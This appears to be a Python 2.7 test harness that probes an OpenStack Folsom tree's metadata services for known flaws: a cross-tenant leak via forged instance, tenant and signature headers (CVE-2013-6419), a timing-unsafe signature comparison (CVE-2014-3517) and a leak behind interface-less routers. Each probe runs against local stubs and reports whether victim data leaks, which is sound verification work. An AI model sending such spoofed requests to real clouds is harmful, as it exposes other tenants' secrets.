"""What a Folsom tree does when it is attacked; run by Python 2.7 with the pins, in the tree: probes.py NAME.

Each probe asks the tree's own code as the path does and prints what came of it as JSON, whichever
commits the tree has. Only what the code asks of others is played: the port API, the instance.
"""
import gettext
import hashlib
import hmac
import json
import sys

gettext.install('probes', unicode=1)


class Spy(str):
    """A signature that notes when it is compared byte by byte."""

    compared = 0

    def __eq__(self, other):
        Spy.compared += 1
        return str.__eq__(self, other)

    def __ne__(self, other):
        return not self == other


def _ask_nova(headers):
    import webob
    from nova.api.metadata import handler

    class Instance(object):
        instance = {'project_id': 'victim'}

        def lookup(self, path):
            return 'secrets of the victim'

    handler.FLAGS.set_override('service_quantum_metadata_proxy', True)
    application = handler.MetadataRequestHandler()
    application.get_metadata_by_instance_id = lambda *args: Instance()
    request = webob.Request.blank('/latest/user-data', headers=headers)
    request.remote_addr = '10.0.0.1'
    response = request.get_response(application)
    return {'status': response.status_int, 'leaked': 'victim' in response.body}


def another_tenant():
    """CVE-2013-6419: a port's device_id says another tenant's instance; the agent signs what it is told."""
    signature = hmac.new('', 'of-the-victim', hashlib.sha256).hexdigest()
    return _ask_nova({'X-Instance-ID': 'of-the-victim', 'X-Tenant-ID': 'attacker',
                      'X-Forwarded-For': '10.0.0.3', 'X-Instance-ID-Signature': signature})


def timing():
    """CVE-2014-3517: how long a comparison takes tells how far a guess is right."""
    class Digest(object):
        def hexdigest(self):
            return Spy('0' * 64)

    hmac.new = lambda *args: Digest()
    answer = _ask_nova({'X-Instance-ID': 'x', 'X-Tenant-ID': 'victim', 'X-Forwarded-For': '10.0.0.3',
                        'X-Instance-ID-Signature': '1' * 64})
    return dict(answer, compared=Spy.compared)


def no_interfaces():
    """Bug 1348097: behind a router without interfaces, a guest with another tenant's address."""
    import webob
    from quantum.agent.metadata import agent

    ports = [{'network_id': 'of-the-victim', 'device_id': 'instance of the victim', 'tenant_id': 'victim'}]

    class Api(object):
        """Answers as quantum-server does: an empty list is no filter."""

        def list_ports(self, network_id=None, device_id=None, **filters):
            if device_id:
                return {'ports': []}
            return {'ports': [port for port in ports
                              if not network_id or port['network_id'] in network_id]}

    class Configuration(object):
        metadata_proxy_shared_secret = 'secret'

        def __getattr__(self, name):
            return ''

    agent.client.Client = lambda *args, **kwargs: Api()
    handler = agent.MetadataProxyHandler(Configuration())
    handler._proxy_request = lambda *args: webob.Response('metadata of the victim')
    request = webob.Request.blank('/latest/user-data', headers={
        'X-Quantum-Router-ID': 'without-interfaces', 'X-Forwarded-For': '10.0.0.3'})
    response = request.get_response(handler)
    return {'status': response.status_int, 'leaked': 'victim' in response.body}


def rules():
    """The rules that the l3 agent makes for metadata in a router's namespace, by table."""
    from quantum.agent import l3_agent
    from quantum.agent.common import config

    conf = config.setup_conf()
    conf.register_opts(l3_agent.L3NATAgent.OPTS)
    agent = l3_agent.L3NATAgent.__new__(l3_agent.L3NATAgent)
    agent.conf = conf
    return {'filter': agent.metadata_filter_rules(), 'nat': agent.metadata_nat_rules()}


if __name__ == '__main__':
    sys.path.insert(0, '.')
    probe, = sys.argv[1:]
    json.dump({'another_tenant': another_tenant, 'timing': timing, 'no_interfaces': no_interfaces,
               'rules': rules}[probe](), sys.stdout)
